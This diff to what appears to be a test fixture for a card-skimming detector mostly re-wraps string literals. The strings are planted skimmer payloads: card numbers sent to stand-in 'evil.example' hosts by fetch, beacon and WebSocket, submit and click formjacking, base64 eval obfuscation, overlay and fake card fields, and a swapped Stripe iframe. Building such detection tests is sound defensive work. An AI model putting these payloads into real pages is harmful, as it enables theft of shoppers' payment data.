@@ -15,7 +15,8 @@ function onFrame(name: string, script: string, expected: readonly string[]): Pag
 
 const SEND = `const send = (d) => fetch('${EVIL}/c', { method: 'POST', mode: 'no-cors', body: d });`;
 const AT_CHANGE = (act: string): string =>
-  `${NUMBER}.addEventListener('input', () => { const v = ${NUMBER}.value; if (v.length > 15) { ${act} } });`;
+  `${NUMBER}.addEventListener('input', () => { const v = ${NUMBER}.value; ` +
+  `if (v.length > 15) { ${act} } });`;
 const INPUT_OVER =
   "const o = document.createElement('input'); o.name = 'q'; " +
   "o.style = 'position:absolute;left:0;top:0;width:400px;height:60px;z-index:9'; " +
@@ -26,7 +27,7 @@ const FAKE =
 const SWAP =
   "document.getElementById('card').src = 'https://js.stripe.evil.example/v3/elements-inner-card';";
 const ENCODED = Buffer.from(SEND + AT_CHANGE('send(v)')).toString('base64');
-const PIECES = [...`${SEND}${AT_CHANGE('send(v)')}`].map((c) => c.charCodeAt(0)).join(',');
+const PIECES = Array.from(`${SEND}${AT_CHANGE('send(v)')}`, (c) => c.charCodeAt(0)).join(',');
 
 /** Planted attacks, each with the rules that must find it. */
 export const ATTACK_PAGES: readonly PageCase[] = [
@@ -35,7 +36,9 @@ export const ATTACK_PAGES: readonly PageCase[] = [
   onForm('exfiltration by beacon', AT_CHANGE(`navigator.sendBeacon('${EVIL}/b', v);`)),
   onForm(
     'exfiltration by WebSocket',
-    `const w = new WebSocket('wss://cdn.evil.example/ws'); ${AT_CHANGE('w.readyState === 1 ? w.send(v) : w.addEventListener("open", () => w.send(v));')}`,
+    `const w = new WebSocket('wss://cdn.evil.example/ws'); const later = (v) => ` +
+      'w.readyState === 1 ? w.send(v) : w.addEventListener("open", () => w.send(v)); ' +
+      AT_CHANGE('later(v)'),
   ),
   onForm(
     'exfiltration by CSS',
@@ -70,11 +73,13 @@ export const ATTACK_PAGES: readonly PageCase[] = [
   },
   onForm(
     'formjacking at submit',
-    `${SEND} document.getElementById('checkout').addEventListener('submit', () => send(${NUMBER}.value));`,
+    `${SEND} document.getElementById('checkout').addEventListener('submit', ` +
+      `() => send(${NUMBER}.value));`,
   ),
   onForm(
     'formjacking by a click on the button',
-    `${SEND} document.querySelector('button').addEventListener('click', () => send(${NUMBER}.value));`,
+    `${SEND} document.querySelector('button').addEventListener('click', () ` +
+      `=> send(${NUMBER}.value));`,
   ),
   onForm('obfuscated: base64 and eval', `eval(atob('${ENCODED}'))`, [
     ...LEAVES,
@@ -99,7 +104,8 @@ export const ATTACK_PAGES: readonly PageCase[] = [
   ),
   onForm(
     'after scrolling',
-    `addEventListener('scroll', () => { ${SEND} ${AT_CHANGE('send(v)')} }, { once: true }); document.body.style.height = '5000px';`,
+    `addEventListener('scroll', () => { ${SEND} ${AT_CHANGE('send(v)')} }, ` +
+      `{ once: true }); document.body.style.height = '5000px';`,
   ),
   onFrame('overlay', INPUT_OVER, ['page-overlay']),
   onFrame(
@@ -111,7 +117,8 @@ export const ATTACK_PAGES: readonly PageCase[] = [
   onFrame('fake card field', FAKE, ['page-fake-card-field']),
   onFrame(
     'fake card field in a closed shadow tree',
-    `const h = document.createElement('div'); document.body.prepend(h); h.attachShadow({ mode: 'closed' }).innerHTML = '<input name=cardnumber>';`,
+    `const h = document.createElement('div'); document.body.prepend(h); h.attachShadow({ ` +
+      `mode: 'closed' }).innerHTML = '<input name=cardnumber>';`,
     ['page-fake-card-field'],
   ),
   onFrame('fake card field after 15 seconds', `setTimeout(() => { ${FAKE} }, 15000);`, [
@@ -119,13 +126,17 @@ export const ATTACK_PAGES: readonly PageCase[] = [
   ]),
   onFrame(
     'fake card field that can be edited',
-    `const e = document.createElement('div'); e.contentEditable = 'true'; e.setAttribute('aria-label', 'Card number'); e.textContent = ' '; e.style = 'width:200px;height:30px'; document.body.prepend(e);`,
+    `const e = document.createElement('div'); e.contentEditable = 'true'; e.setAttribute('aria-label', ` +
+      `'Card number'); e.textContent = ' '; e.style = 'width:200px;height:30px'; ` +
+      `document.body.prepend(e);`,
     ['page-fake-card-field'],
   ),
   onFrame('frame swap', `setTimeout(() => { ${SWAP} }, 3000);`, ['page-frame-swap']),
   onFrame(
     'frame swap by replacement',
-    `setTimeout(() => { const n = document.createElement('iframe'); n.src = 'https://js.stripe.evil.example/v3/elements-inner-card'; n.style = 'width:400px;height:60px'; document.getElementById('card').replaceWith(n); }, 3000);`,
+    `setTimeout(() => { const n = document.createElement('iframe'); n.src = ` +
+      `'https://js.stripe.evil.example/v3/elements-inner-card'; n.style = 'width:400px;height:60px'; ` +
+      `document.getElementById('card').replaceWith(n); }, 3000);`,
     ['page-frame-swap'],
   ),
   onForm('kept in localStorage', AT_CHANGE("localStorage.setItem('c', v)"), [
